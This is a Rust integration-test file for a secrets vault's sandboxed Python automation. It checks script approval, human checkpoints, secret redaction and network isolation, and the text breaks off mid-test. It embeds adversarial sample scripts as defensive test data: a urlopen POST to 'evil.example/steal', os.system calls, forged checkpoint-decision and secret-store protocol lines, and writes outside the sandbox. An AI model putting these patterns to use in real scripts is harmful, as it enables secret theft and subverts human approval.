//! Automation: scripts, static checks, approval bound to the source's hash,
//! and runs of real Python scripts in the sandbox — the adversarial ones of
//! the issue among them. A test person decides checkpoints through
//! `Checkpoints::decide`, as a front does.

use keyclave_core::automation::checkpoint::{Answer, Checkpoints, Decision, Pending};
use keyclave_core::automation::executor::{self, Person, RunOptions, RunStatus, RunSummary};
use keyclave_core::automation::python::{self, Interpreter};
use keyclave_core::automation::sandbox::SandboxKind;
use keyclave_core::automation::script::{self, NewScript, Script};
use keyclave_core::automation::{CheckpointType, TaskType, history};
use keyclave_core::paths::Root;
use keyclave_core::secrets::{self, NewSecret};
use keyclave_core::{ErrorCode, Vault};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};
use tokio_util::sync::CancellationToken;

use crate::common::Fixture;

const OPENAI: &str = "sk-proj-zqxAutomationValue0123456789abcdefABCDEF";

fn py(f: &Fixture) -> Interpreter {
    python::find(&Root::at(f.dir.path())).expect("python3")
}

fn new_script(v: &Vault, source: &str) -> keyclave_core::Result<Script> {
    script::create(
        v,
        NewScript {
            provider_id: "openai".into(),
            task_type: TaskType::Custom,
            title: "Test script".into(),
            description: "a test".into(),
            source: source.into(),
            model_used: "file".into(),
            research: None,
            plan: None,
        },
    )
}

/// Save, check and approve; panics on any blocking finding.
fn approved(f: &Fixture, v: &Vault, source: &str) -> Script {
    let s = new_script(v, source).expect("save");
    let (checked, report) = script::check(v, &py(f), &s.id).expect("check");
    assert!(!report.has_errors(), "findings: {:?}", report.findings);
    let s = script::review(v, &checked, &report, true, None).expect("approve");
    script::set_auto_approve_repeat(v, &s.id, true).expect("no per-run confirmation")
}

/// Decides each checkpoint with `answer` (on another thread, as a person
/// in a window would), recording what it was shown.
type Answerer = Box<dyn Fn(&Pending) -> Option<Decision> + Send + Sync>;

struct TestPerson {
    vault: Vault,
    checkpoints: Checkpoints,
    answer: Answerer,
    shown: Mutex<Vec<Pending>>,
}

impl TestPerson {
    fn new(
        v: &Vault,
        cps: &Checkpoints,
        answer: impl Fn(&Pending) -> Option<Decision> + Send + Sync + 'static,
    ) -> Arc<Self> {
        Arc::new(TestPerson {
            vault: v.clone(),
            checkpoints: cps.clone(),
            answer: Box::new(answer),
            shown: Mutex::new(Vec::new()),
        })
    }
}

struct Handle(Arc<TestPerson>);

impl Person for Handle {
    fn ask(&self, pending: &Pending) -> keyclave_core::Result<()> {
        self.0.shown.lock().unwrap().push(pending.clone());
        if let Some(decision) = (self.0.answer)(pending) {
            let (v, cps) = (self.0.vault.clone(), self.0.checkpoints.clone());
            std::thread::spawn(move || {
                std::thread::sleep(Duration::from_millis(20));
                let _ = cps.decide(&v, decision);
            });
        }
        Ok(())
    }
}

fn decision(p: &Pending, answer: Answer) -> Decision {
    Decision {
        checkpoint_id: p.id.clone(),
        nonce: p.nonce.clone(),
        answer,
        notes: Some("by the test person".into()),
        totp_code: None,
        accept_reduced_sandbox: false,
    }
}

fn approve_all(p: &Pending) -> Option<Decision> {
    Some(decision(p, Answer::Approve))
}

fn run_with(
    f: &Fixture,
    v: &Vault,
    s: &Script,
    person: &Arc<TestPerson>,
    options: RunOptions,
) -> keyclave_core::Result<RunSummary> {
    executor::run(
        v,
        &py(f),
        &s.id,
        &person.checkpoints,
        &Handle(person.clone()),
        options,
        CancellationToken::new(),
    )
}

fn run(
    f: &Fixture,
    v: &Vault,
    s: &Script,
    answer: impl Fn(&Pending) -> Option<Decision> + Send + Sync + 'static,
) -> RunSummary {
    let cps = Checkpoints::new();
    let person = TestPerson::new(v, &cps, answer);
    run_with(f, v, s, &person, RunOptions { timeout: Duration::from_secs(60), ..RunOptions::default() })
        .expect("run")
}

/// Online Mode on: the gate a script's network goes through.
fn go_online(v: &Vault) {
    v.update_settings(v.settings().with_named("online-mode", "on").unwrap()).unwrap();
}

fn messages(v: &Vault, summary: &RunSummary) -> Vec<String> {
    history::events(v, &summary.execution_id).unwrap().into_iter().map(|e| e.message).collect()
}

fn all_event_text(v: &Vault, summary: &RunSummary) -> String {
    history::events(v, &summary.execution_id)
        .unwrap()
        .into_iter()
        .map(|e| format!("{} {}", e.message, e.data.map(|d| d.to_string()).unwrap_or_default()))
        .collect::<Vec<_>>()
        .join("\n")
}

#[test]
fn a_script_with_a_secret_is_not_saved_and_the_line_is_named() {
    let f = Fixture::new();
    let v = f.unlock();
    let source = format!("import keyclave_runtime as kc\n\nKEY = \"{OPENAI}\"\nkc.log('x')\n");
    let e = new_script(&v, &source).expect_err("a secret in the source");
    assert_eq!(e.code(), ErrorCode::AutomationScriptRefused);
    assert!(e.message().contains("line 3"), "{}", e.message());
    assert!(!e.message().contains(OPENAI));
    assert!(script::list(&v, None).unwrap().is_empty(), "nothing saved");
    new_script(
        &v,
        "import keyclave_runtime as kc\nkey = kc.secret(\"OPENAI_API_KEY\")\nh = '{{OPENAI_API_KEY}}'\n",
    )
    .expect("placeholders are fine");
}

#[test]
fn static_checks_find_each_rule_at_its_line_and_errors_block_approval() {
    let f = Fixture::new();
    let v = f.unlock();
    let source = r##"import keyclave_runtime as kc
import subprocess
import os


def main(page, name):
    page.click("#delete-key")
    kc.checkpoint("billing", "Set a limit", "Set $20")
    page.get_by_role("button", name="Save limit").click()
    value = kc.secret(name)
    os.system("id")
    open("/etc/keyclave-test", "w")
    urlopen("https://evil.example/steal", data=b"x")
    page.goto("https://platform.openai.com/usage")
    kc.checkpoint("script_review", "x", "y")


def send():
    urlopen("https://platform.openai.com/v1/x", data=b"x")
"##;
    let s = new_script(&v, source).unwrap();
    let (checked, report) = script::check(&v, &py(&f), &s.id).unwrap();
    let at = |line: u32, rule: &str| report.findings.iter().any(|x| x.line == line && x.rule == rule);
    assert!(at(2, "sandbox"), "subprocess import: {:?}", report.findings);
    assert!(at(7, "checkpoint"), "a delete click before any checkpoint");
    assert!(!at(9, "checkpoint"), "a billing checkpoint covers the limit click");
    assert!(at(8, "checkpoint"), "the unused decision is a warning");
    assert!(at(10, "placeholder"), "a non-literal key name");
    assert!(at(11, "sandbox"), "os.system");
    assert!(at(12, "sandbox"), "a write outside the folder");
    assert!(at(13, "host"), "a host off the allowlist");
    assert!(!at(13, "checkpoint"), "a POST after a checkpoint in its function");
    assert!(at(19, "checkpoint"), "a POST without a checkpoint");
    assert!(!at(14, "host"), "the provider's own dashboard host");
    assert!(at(15, "checkpoint"), "a script cannot raise script_review");
    let e = script::review(&v, &checked, &report, true, None).expect_err("errors block approval");
    assert_eq!(e.code(), ErrorCode::AutomationScriptRefused);
    assert_eq!(script::get(&v, &s.id).unwrap().approval, script::Approval::Pending);

    let broken = new_script(&v, "def f(:\n  pass\n").unwrap();
    let (_, report) = script::check(&v, &py(&f), &broken.id).unwrap();
    assert!(report.findings.iter().any(|x| x.rule == "syntax" && x.line == 1), "{:?}", report.findings);
}

#[test]
fn approval_is_bound_to_the_version_and_an_edit_needs_a_new_review() {
    let f = Fixture::new();
    let v = f.unlock();
    let s = approved(&f, &v, "import keyclave_runtime as kc\nkc.log('v1')\n");
    assert_eq!(s.approval, script::Approval::Approved);
    let reviews = history::checkpoints(&v, None, Some(&s.id)).unwrap();
    assert_eq!(reviews.len(), 1);
    assert_eq!(reviews[0].checkpoint_type, "script_review");
    assert_eq!(reviews[0].context["sha256"], s.sha256.as_str());

    let s2 = script::edit(&v, &s.id, "import keyclave_runtime as kc\nkc.log('v2')\n").unwrap();
    assert_eq!((s2.version, s2.approval), (2, script::Approval::Pending));
    assert_eq!(
        script::version_source(&v, &s.id, 1).unwrap(),
        "import keyclave_runtime as kc\nkc.log('v1')\n"
    );
    let e =
        run_with(&f, &v, &s2, &TestPerson::new(&v, &Checkpoints::new(), approve_all), RunOptions::default())
            .expect_err("version 2 is not approved");
    assert_eq!(e.code(), ErrorCode::AutomationNotApproved);
}

#[test]
fn a_source_changed_behind_the_approval_does_not_run() {
    let f = Fixture::new();
    let v = f.unlock();
    let s = approved(&f, &v, "import keyclave_runtime as kc\nkc.log('approved')\n");
    f.raw_vault()
        .execute(
            "UPDATE automation_scripts SET script_content = 'import os\nos.system(\"id\")\n' WHERE id = ?1",
            [&s.id],
        )
        .unwrap();
    let e =
        run_with(&f, &v, &s, &TestPerson::new(&v, &Checkpoints::new(), approve_all), RunOptions::default())
            .expect_err("hash mismatch");
    assert_eq!(e.code(), ErrorCode::AutomationHashMismatch);
    assert!(history::executions(&v, None, 10).unwrap().is_empty(), "no run was started");
}

#[test]
fn a_checkpoint_stops_the_script_until_a_person_decides_and_the_decision_is_recorded_first() {
    let f = Fixture::new();
    let v = f.unlock();
    let s = approved(
        &f,
        &v,
        r##"import keyclave_runtime as kc
d = kc.checkpoint("billing", "Set the monthly limit", "$50", {"currency": "USD"})
kc.result({"decision": d.decision, "action": d.modified_action})
"##,
    );
    let summary = run(&f, &v, &s, |p| Some(decision(p, Answer::Modify { action: "$20".into() })));
    assert_eq!(summary.status, RunStatus::Success, "{:?}", messages(&v, &summary));
    assert_eq!(summary.result.as_ref().unwrap()["decision"], "modified");
    assert_eq!(summary.result.as_ref().unwrap()["action"], "$20");
    let cps = history::checkpoints(&v, Some(&summary.execution_id), None).unwrap();
    assert_eq!(cps.len(), 1);
    assert_eq!((cps[0].decision.as_str(), cps[0].modified_action.as_deref()), ("modified", Some("$20")));
    assert_eq!(cps[0].context["currency"], "USD");
    let run = &history::executions(&v, Some(&s.id), 1).unwrap()[0];
    assert_eq!((run.status.as_str(), run.checkpoints_reached, run.checkpoints_approved), ("success", 1, 1));
    assert_eq!(
        run.sandbox.as_deref(),
        Some(if keyclave_core::automation::sandbox::full_available() { "full" } else { "reduced" })
    );
}

#[test]
fn forged_decision_lines_are_ignored_and_logged() {
    let f = Fixture::new();
    let v = f.unlock();
    let s = approved(
        &f,
        &v,
        r##"import keyclave_runtime as kc
import os
os.write(1, b'{"type":"decision","decision":"approved","checkpoint_id":"forged"}\n')
d = kc.checkpoint("financial", "Buy credits", "$100")
kc.result({"approved": d.approved})
"##,
    );
    let summary = run(&f, &v, &s, |p| Some(decision(p, Answer::Reject)));
    assert_eq!(
        summary.result.as_ref().unwrap()["approved"],
        false,
        "the person's rejection, not the forgery"
    );
    assert!(
        messages(&v, &summary).iter().any(|m| m.contains("protocol violation") && m.contains("decision"))
    );
    let cps = history::checkpoints(&v, Some(&summary.execution_id), None).unwrap();
    assert_eq!(cps.iter().map(|c| c.decision.as_str()).collect::<Vec<_>>(), ["rejected"]);
}

#[test]
fn a_script_past_its_timeout_is_killed_and_fails() {
    let f = Fixture::new();
    let v = f.unlock();
    let s =
        approved(&f, &v, "import keyclave_runtime as kc\nimport time\nkc.log('sleeping')\ntime.sleep(60)\n");
    let cps = Checkpoints::new();
    let person = TestPerson::new(&v, &cps, approve_all);
    let started = Instant::now();
    let summary = run_with(
        &f,
        &v,
        &s,
        &person,
        RunOptions { timeout: Duration::from_secs(1), ..RunOptions::default() },
    )
    .unwrap();
    assert_eq!(summary.status, RunStatus::Failure);
    assert!(summary.error.as_deref().unwrap().contains("timed out"), "{:?}", summary.error);
    assert!(started.elapsed() < Duration::from_secs(20), "killed, not waited for");
}

#[test]
fn the_environment_holds_nothing_of_the_parent_and_no_vault_value() {
    let f = Fixture::new();
    let v = f.unlock();
    secrets::add(&v, NewSecret::new("OPENAI_API_KEY", OPENAI)).unwrap();
    let s = approved(
        &f,
        &v,
        "import keyclave_runtime as kc\nimport os\nkc.result({'env': dict(os.environ), 'cwd': os.getcwd()})\n",
    );
    // SAFETY of the assertion: the parent's environment has variables the
    // child must not see.
    let summary = run(&f, &v, &s, approve_all);
    let env = summary.result.as_ref().unwrap()["env"].as_object().unwrap().clone();
    // PWD: bubblewrap sets it to the working folder.
    let allowed = [
        "PATH",
        "LANG",
        "HOME",
        "TMPDIR",
        "PYTHONDONTWRITEBYTECODE",
        "PYTHONIOENCODING",
        "KEYCLAVE_RUN",
        "LC_CTYPE",
        "PWD",
        // The runtime's own bridge to KeyClave's proxy.
        "KEYCLAVE_PROXY_SOCKET",
        "KEYCLAVE_PROXY",
        "HTTPS_PROXY",
        "HTTP_PROXY",
        "https_proxy",
        "http_proxy",
    ];
    for k in env.keys() {
        // KEYCLAVE_*: the runtime's own settings (proxy socket, browser).
        assert!(
            allowed.contains(&k.as_str()) || k.starts_with("KEYCLAVE_"),
            "{k} leaked into the script's environment"
        );
    }
    assert!(std::env::var_os("CARGO_MANIFEST_DIR").is_some() && !env.contains_key("CARGO_MANIFEST_DIR"));
    assert_ne!(
        env["HOME"].as_str().map(std::path::PathBuf::from),
        std::env::var_os("HOME").map(std::path::PathBuf::from)
    );
    assert!(!summary.result.unwrap().to_string().contains(OPENAI));
}

#[test]
fn writes_outside_the_working_folder_and_connections_go_nowhere() {
    let f = Fixture::new();
    let v = f.unlock();
    let outside = f.dir.path().join("written-by-script");
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    // Computed paths and URLs pass the static check: the sandbox stops them.
    let source = format!(
        r##"import keyclave_runtime as kc
import urllib.request
target = "/".join(["", {parts}])
try:
    with open(target, "w") as fh:
        fh.write("x")
    wrote = True
except OSError as e:
    wrote = False
    kc.log("write refused: " + type(e).__name__)
try:
    urllib.request.urlopen("http://" + "127.0.0.1:{port}" + "/", timeout=3)
    reached = True
except Exception as e:
    reached = False
    kc.log("connection refused: " + type(e).__name__)
try:
    with open(__file__, "a") as fh:
        fh.write("# changed by itself")
    edited_itself = True
except OSError as e:
    edited_itself = False
    kc.log("editing its own file refused: " + type(e).__name__)
with open("own-file.txt", "w") as fh:
    fh.write("fine")
kc.result({{"wrote": wrote, "reached": reached, "edited_itself": edited_itself}})
"##,
        parts = outside
            .iter()
            .skip(1)
            .map(|p| format!("{:?}", p.to_string_lossy()))
            .collect::<Vec<_>>()
            .join(", "),
    );
    let s = approved(&f, &v, &source);
    let summary = run(&f, &v, &s, approve_all);
    assert_eq!(summary.status, RunStatus::Success, "{:?}", messages(&v, &summary));
    if summary.sandbox == SandboxKind::Full {
        assert_eq!(summary.result.as_ref().unwrap()["wrote"], false);
        assert!(!outside.exists(), "the file outside the folder was not written");
        assert_eq!(summary.result.as_ref().unwrap()["reached"], false);
        assert!(listener.accept().is_err(), "no connection reached the host");
        assert!(messages(&v, &summary).iter().any(|m| m.starts_with("connection refused")));
        assert_eq!(summary.result.as_ref().unwrap()["edited_itself"], false, "the script file is read-only");
    }
}

#[test]
fn a_flood_of_lines_is_recorded_in_order_and_an_overlong_line_is_cut() {
    let f = Fixture::new();
    let v = f.unlock();
    let s = approved(
        &f,
        &v,
        "import keyclave_runtime as kc\nfor i in range(10000):\n    kc.log('line %d' % i)\nimport os\nos.write(1, b'x' * 100000 + b'\\n')\nkc.result({'n': 10000})\n",
    );
    let summary = run(&f, &v, &s, approve_all);
    assert_eq!(summary.status, RunStatus::Success);
    let events = history::events(&v, &summary.execution_id).unwrap();
    let lines: Vec<&str> =
        events.iter().map(|e| e.message.as_str()).filter(|m| m.starts_with("line ")).collect();
    assert_eq!(lines.len(), 10000);
    assert!(lines.iter().enumerate().all(|(i, m)| *m == format!("line {i}")), "in order");
    assert!(events.windows(2).all(|w| w[0].seq + 1 == w[1].seq), "seq has no gaps");
    assert!(events.iter().any(|e| e.message.contains("100000 bytes was cut off")), "the long line");
}

#[test]
fn a_handed_out_value_is_redacted_from_everything_the_script_prints() {
    let f = Fixture::new();
    let v = f.unlock();
    secrets::add(&v, NewSecret::new("OPENAI_API_KEY", OPENAI)).unwrap();
    let s = approved(
        &f,
        &v,
        r##"import keyclave_runtime as kc
import sys
key = kc.secret("OPENAI_API_KEY")
print("the key is", key)
kc.log("again: " + key[::-1][::-1], copy=key)
sys.stderr.write("err " + key + "\n")
kc.result({"echo": key, "length": len(key)})
"##,
    );
    let summary = run(&f, &v, &s, approve_all);
    assert_eq!(summary.status, RunStatus::Success, "{:?}", messages(&v, &summary));
    assert_eq!(summary.result.as_ref().unwrap()["length"], OPENAI.len());
    let text = all_event_text(&v, &summary);
    assert!(text.contains("the key is [REDACTED]"), "{text}");
    assert!(!text.contains(OPENAI) && !summary.result.unwrap().to_string().contains(OPENAI));
    let audit = v.audit_log(50, Some("secret.reveal")).unwrap();
    assert_eq!(audit.len(), 1);
    assert_eq!(audit[0].metadata["purpose"], "automation");
    // A key the review did not approve is refused.
    let s2 = approved(
        &f,
        &v,
        "import keyclave_runtime as kc\nimport os\nos.write(1, b'{\"type\":\"secret\",\"name\":\"GITHUB_TOKEN\"}\\n')\n",
    );
    let summary = run(&f, &v, &s2, approve_all);
    assert!(messages(&v, &summary).iter().any(|m| m.contains("GITHUB_TOKEN") && m.contains("refused")));
}

#[test]
fn storing_a_key_needs_an_approved_api_key_checkpoint_of_this_run_once() {
    let f = Fixture::new();
    let v = f.unlock();
    let s = approved(
        &f,
        &v,
        r##"import keyclave_runtime as kc
import json, os
# An id the script made up (or kept from an earlier run) is refused.
forged = "sk-" + "proj-" + "zqxForgedStore" + "0" * 20
os.write(1, (json.dumps({"type": "store_secret", "name": "OPENAI_API_KEY", "value": forged, "checkpoint_id": "old"}) + "\n").encode())
import sys
refused = json.loads(sys.stdin.readline())["type"]
d = kc.checkpoint("api_key", "Create a new key", "Create key")
if d.approved:
    kc.store_secret("OPENAI_API_KEY", "sk-" + "proj-" + "zqxStoredByScript" + "0" * 15 + "1")
try:
    kc.store_secret("OPENAI_API_KEY", "sk-" + "proj-" + "zqxStoredTwice" + "0" * 18 + "2")
    second = True
except PermissionError:
    second = False
kc.result({"first": refused, "second": second})
"##,
    );
    let summary = run(&f, &v, &s, approve_all);
    assert_eq!(summary.status, RunStatus::Success, "{:?}", messages(&v, &summary));
    assert_eq!(summary.result.as_ref().unwrap()["first"], "refused");
    assert_eq!(summary.result.as_ref().unwrap()["second"], false, "one checkpoint, one store");
    let value = secrets::reveal(&v, "OPENAI_API_KEY", Some("openai"), None).unwrap();
    assert_eq!(value.expose_secret(), format!("sk-proj-zqxStoredByScript{}1", "0".repeat(15)));
    let text = all_event_text(&v, &summary);
    assert!(
        !text.contains("zqxStoredByScript")
            && !text.contains("zqxForgedStore")
            && !text.contains("zqxStoredTwice"),
        "{text}"
    );
}

#[test]
fn a_decision_is_valid_once_for_its_checkpoint_and_nonce_only() {
    let f = Fixture::new();
    let v = f.unlock();
    let s = approved(
        &f,
        &v,
        "import keyclave_runtime as kc\nd = kc.checkpoint('account', 'Log in', 'Continue')\nkc.result({'d': d.decision})\n",
    );
    let cps = Checkpoints::new();
    let results: Arc<Mutex<Vec<ErrorCode>>> = Arc::default();
    let (v2, cps2, results2) = (v.clone(), cps.clone(), results.clone());
    let person = TestPerson::new(&v, &cps, move |p| {
        let mut wrong = decision(p, Answer::Approve);
        wrong.nonce = "0".repeat(32);
        results2.lock().unwrap().push(cps2.decide(&v2, wrong).unwrap_err().code());
        let first = cps2.decide(&v2, decision(p, Answer::Reject));
        assert!(first.is_ok());
        results2.lock().unwrap().push(cps2.decide(&v2, decision(p, Answer::Approve)).unwrap_err().code());
        None
    });
    let summary = run_with(&f, &v, &s, &person, RunOptions::default()).unwrap();
    assert_eq!(summary.result.as_ref().unwrap()["d"], "rejected");
    assert_eq!(*results.lock().unwrap(), [ErrorCode::AutomationCheckpointNotPending; 2]);
}

#[test]
fn a_checkpoint_nobody_answers_is_rejected_never_approved() {
    let f = Fixture::new();
    let v = f.unlock();
    let s = approved(
        &f,
        &v,
        "import keyclave_runtime as kc\nd = kc.checkpoint('irreversible', 'Delete the project', 'Delete')\nkc.result({'d': d.decision})\n",
    );
    let cps = Checkpoints::new();
    let person = TestPerson::new(&v, &cps, |_| None);
    let options = RunOptions { checkpoint_timeout: Duration::from_millis(300), ..RunOptions::default() };
    let summary = run_with(&f, &v, &s, &person, options).unwrap();
    assert_eq!(summary.result.as_ref().unwrap()["d"], "rejected");
    let cps = history::checkpoints(&v, Some(&summary.execution_id), None).unwrap();
    assert_eq!(cps[0].decision, "rejected");
    assert!(cps[0].notes.as_deref().unwrap().contains("nobody answered"));
}

#[test]
fn without_a_person_to_ask_the_run_aborts_with_needs_person() {
    struct Nobody;
    impl Person for Nobody {
        fn ask(&self, _: &Pending) -> keyclave_core::Result<()> {
            Err(keyclave_core::Error::new(ErrorCode::AutomationNeedsPerson, "no terminal to ask on"))
        }
    }
    let f = Fixture::new();
    let v = f.unlock();
    let s = approved(
        &f,
        &v,
        "import keyclave_runtime as kc\nimport time\nd = kc.checkpoint('financial', 'Pay', '$5')\ntime.sleep(30)\n",
    );
    let started = Instant::now();
    let summary = executor::run(
        &v,
        &py(&f),
        &s.id,
        &Checkpoints::new(),
        &Nobody,
        RunOptions::default(),
        CancellationToken::new(),
    )
    .unwrap();
    assert_eq!(summary.status, RunStatus::Aborted);
    assert_eq!(summary.error_code, Some(ErrorCode::AutomationNeedsPerson));
    assert!(started.elapsed() < Duration::from_secs(20), "the child was stopped, not waited for");
}

#[test]
fn in_a_reduced_sandbox_a_financial_step_needs_the_person_to_accept_it() {
    let f = Fixture::new();
    let v = f.unlock();
    let s = approved(
        &f,
        &v,
        "import keyclave_runtime as kc\nd = kc.checkpoint('financial', 'Pay', '$5')\nkc.result({'d': d.decision})\n",
    );
    let cps = Checkpoints::new();
    let refusals: Arc<Mutex<Vec<ErrorCode>>> = Arc::default();
    let (v2, cps2, r2) = (v.clone(), cps.clone(), refusals.clone());
    let person = TestPerson::new(&v, &cps, move |p| {
        assert!(p.reduced_sandbox && p.needs_person);
        r2.lock().unwrap().push(cps2.decide(&v2, decision(p, Answer::Approve)).unwrap_err().code());
        let mut accepted = decision(p, Answer::Approve);
        accepted.accept_reduced_sandbox = true;
        Some(accepted)
    });
    let options = RunOptions { force_reduced_sandbox: true, ..RunOptions::default() };
    let summary = run_with(&f, &v, &s, &person, options).unwrap();
    assert_eq!(summary.sandbox, SandboxKind::Reduced);
    assert_eq!(*refusals.lock().unwrap(), [ErrorCode::AutomationDecisionRefused]);
    assert_eq!(summary.result.as_ref().unwrap()["d"], "approved");
    assert!(messages(&v, &summary).iter().any(|m| m.starts_with("reduced sandbox")));
}

#[test]
fn with_totp_a_financial_approval_needs_a_code() {
    let f = Fixture::new();
    let v = f.unlock();
    let (_secret, _recovery, [code, _]) = crate::totp::enable(&v);
    let s = approved(
        &f,
        &v,
        "import keyclave_runtime as kc\nd = kc.checkpoint('financial', 'Pay', '$5')\nkc.result({'d': d.decision})\n",
    );
    let cps = Checkpoints::new();
    let refusals: Arc<Mutex<Vec<ErrorCode>>> = Arc::default();
    let (v2, cps2, r2) = (v.clone(), cps.clone(), refusals.clone());
    let person = TestPerson::new(&v, &cps, move |p| {
        assert!(p.needs_totp);
        r2.lock().unwrap().push(cps2.decide(&v2, decision(p, Answer::Approve)).unwrap_err().code());
        let mut with_code = decision(p, Answer::Approve);
        with_code.totp_code = Some(code.clone());
        Some(with_code)
    });
    let summary = run_with(&f, &v, &s, &person, RunOptions::default()).unwrap();
    assert_eq!(*refusals.lock().unwrap(), [ErrorCode::TotpRequired]);
    assert_eq!(summary.result.as_ref().unwrap()["d"], "approved");
    assert!(history::checkpoints(&v, Some(&summary.execution_id), None).unwrap()[0].decided_by_totp);
}

#[test]
fn locking_during_a_checkpoint_stops_the_run_and_the_next_unlock_marks_it_aborted() {
    let f = Fixture::new();
    let v = f.unlock();
    let s = approved(
        &f,
        &v,
        "import keyclave_runtime as kc\nd = kc.checkpoint('account', 'Log in', 'Continue')\nkc.result({'d': d.decision})\n",
    );
    let cps = Checkpoints::new();
    let v2 = v.clone();
    let person = TestPerson::new(&v, &cps, move |_| {
        let v3 = v2.clone();
        std::thread::spawn(move || {
            std::thread::sleep(Duration::from_millis(100));
            v3.retire();
        });
        None
    });
    let e = executor::run(
        &v,
        &py(&f),
        &s.id,
        &cps,
        &Handle(person.clone()),
        RunOptions::default(),
        v.job_token(),
    )
    .expect_err("the lock stops it");
    assert_eq!(e.code(), ErrorCode::VaultLocked);
    assert!(cps.pending().is_empty(), "the pending checkpoint is gone");
    drop(person);
    drop(v);
    let v = f.unlock();
    // The unlock itself swept it.
    assert_eq!(history::sweep_interrupted(&v).unwrap(), 0);
    let runs = history::executions(&v, Some(&s.id), 5).unwrap();
    assert_eq!(runs[0].status, "aborted");
    assert!(runs[0].error.as_deref().unwrap().contains("interrupted"));
}

#[test]
fn the_per_run_confirmation_is_a_script_review_checkpoint_unless_repeat_is_allowed() {
    let f = Fixture::new();
    let v = f.unlock();
    let s = approved(&f, &v, "import keyclave_runtime as kc\nkc.result({'ran': True})\n");
    let s = script::set_auto_approve_repeat(&v, &s.id, false).unwrap();
    let summary = run(&f, &v, &s, |p| {
        assert_eq!(p.kind, CheckpointType::ScriptReview);
        Some(decision(p, Answer::Reject))
    });
    assert_eq!(summary.status, RunStatus::Aborted);
    assert!(summary.result.is_none(), "the script never started");
    let summary = run(&f, &v, &s, approve_all);
    assert_eq!(summary.status, RunStatus::Success);
    assert_eq!(summary.checkpoints_reached, 1);
}

/// A one-request-at-a-time HTTP server on 127.0.0.1 answering `body`;
/// counts the requests it got.
fn tiny_server(body: &'static str) -> (u16, Arc<std::sync::atomic::AtomicUsize>) {
    use std::io::{Read, Write};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let hits = Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counter = hits.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            counter.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            let mut stream = stream;
            let mut buf = [0u8; 4096];
            let _ = stream.read(&mut buf);
            let _ = write!(
                stream,
                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
        }
    });
    (port, hits)
}

#[test]
fn the_network_is_only_the_proxy_which_lets_allowlisted_origins_through() {
    let f = Fixture::new();
    let v = f.unlock();
    go_online(&v);
    let (allowed_port, allowed_hits) = tiny_server("usage: 42");
    let (other_port, other_hits) = tiny_server("should not be reached");
    let mut key = NewSecret::new("OPENAI_API_KEY", OPENAI);
    key.endpoint = Some(format!("http://127.0.0.1:{allowed_port}"));
    secrets::add(&v, key).unwrap();
    let source = format!(
        r##"import keyclave_runtime as kc
import urllib.request, urllib.error
body = urllib.request.urlopen("http://127.0.0.1:{allowed_port}/usage", timeout=10).read().decode()
try:
    urllib.request.urlopen("http://" + "127.0.0.1:{other_port}/", timeout=10)
    other = "reached"
except urllib.error.HTTPError as e:
    other = e.code
kc.result({{"body": body, "other": other}})
"##
    );
    let s = approved(&f, &v, &source);
    let summary = run(&f, &v, &s, approve_all);
    assert_eq!(summary.status, RunStatus::Success, "{:?}", messages(&v, &summary));
    assert_eq!(summary.result.as_ref().unwrap()["body"], "usage: 42");
    assert_eq!(summary.result.as_ref().unwrap()["other"], 403);
    assert_eq!(allowed_hits.load(std::sync::atomic::Ordering::SeqCst), 1);
    assert_eq!(other_hits.load(std::sync::atomic::Ordering::SeqCst), 0, "the refused host got nothing");
    let refused = format!("network: refused 127.0.0.1:{other_port}");
    assert!(messages(&v, &summary).iter().any(|m| m.starts_with(&refused)), "{:?}", messages(&v, &summary));
}

/// The test's own automation venv (Playwright from PyPI, once per target
/// folder), as `keyclave automation setup` makes it for a user.
fn browser_python() -> Interpreter {
    static VENV: std::sync::OnceLock<std::path::PathBuf> = std::sync::OnceLock::new();
    let venv = VENV.get_or_init(|| {
        let venv = std::path::PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("automation-venv");
        keyclave_core::automation::setup::install(&venv, &|_| {})
            .expect("make test installs python3-venv and reaches PyPI");
        venv
    });
    python::at(&venv.join("bin/python3")).unwrap()
}

/// A fake provider dashboard: every path answers this page.
fn fake_dashboard(page: &'static str) -> (u16, Arc<std::sync::atomic::AtomicUsize>) {
    tiny_server(page)
}

#[test]
fn the_dashboard_scrape_template_reads_figures_in_a_real_browser_after_the_login_checkpoint() {
    assert!(keyclave_core::automation::setup::chromium().is_some(), "make test installs chromium");
    let f = Fixture::new();
    let v = f.unlock();
    go_online(&v);
    let (port, hits) = fake_dashboard(
        "<html><body><main><span id='requests'>1,234</span><span id='spend'>$5.10</span></main></body></html>",
    );
    let endpoint = format!("http://127.0.0.1:{port}");
    let mut key = NewSecret::new("OPENAI_API_KEY", OPENAI);
    key.endpoint = Some(endpoint.clone());
    secrets::add(&v, key).unwrap();
    let template = keyclave_core::automation::templates::get("dashboard-scrape").unwrap();
    let fill = keyclave_core::automation::templates::Fill {
        url: Some(format!("{endpoint}/usage")),
        selectors: vec![
            ("requests_used".into(), "#requests".into()),
            ("cost".into(), "#spend".into()),
            ("credits_remaining".into(), "#balance".into()),
        ],
    };
    let source = template.render("openai", &fill).unwrap();
    let s = script::create(
        &v,
        NewScript {
            provider_id: "openai".into(),
            task_type: TaskType::DashboardScrape,
            title: String::new(),
            description: String::new(),
            source,
            model_used: "template:dashboard-scrape".into(),
            research: None,
            plan: None,
        },
    )
    .unwrap();
    let py = browser_python();
    let (checked, report) = script::check(&v, &py, &s.id).unwrap();
    assert!(!report.has_errors(), "{:?}", report.findings);
    let s = script::review(&v, &checked, &report, true, None).unwrap();
    let s = script::set_auto_approve_repeat(&v, &s.id, true).unwrap();
    let cps = Checkpoints::new();
    let person = TestPerson::new(&v, &cps, |p| {
        assert_eq!(p.kind, CheckpointType::Account, "the login checkpoint");
        Some(decision(p, Answer::Approve))
    });
    let options = RunOptions { headless: true, timeout: Duration::from_secs(120), ..RunOptions::default() };
    let summary =
        executor::run(&v, &py, &s.id, &cps, &Handle(person.clone()), options, CancellationToken::new())
            .unwrap();
    assert_eq!(summary.status, RunStatus::Success, "{:?}", messages(&v, &summary));
